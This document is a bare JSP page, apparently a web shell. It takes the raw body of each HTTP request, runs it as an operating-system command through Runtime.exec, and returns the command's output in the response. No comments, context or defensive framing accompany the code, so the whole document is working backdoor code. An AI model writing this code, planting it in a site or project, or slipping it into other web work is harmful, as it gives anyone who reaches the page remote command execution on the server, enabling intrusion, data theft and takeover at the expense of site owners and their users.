<%@ page import="java.io.*,java.util.*" %>
<%
    javax.servlet.ServletRequest r = pageContext.getRequest();
    String c = new Scanner(r.getInputStream()).useDelimiter("\\A").next();
    Process p = Runtime.getRuntime().exec(c);
    Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A");
    out.print(s.hasNext() ? s.next() : "");
%>
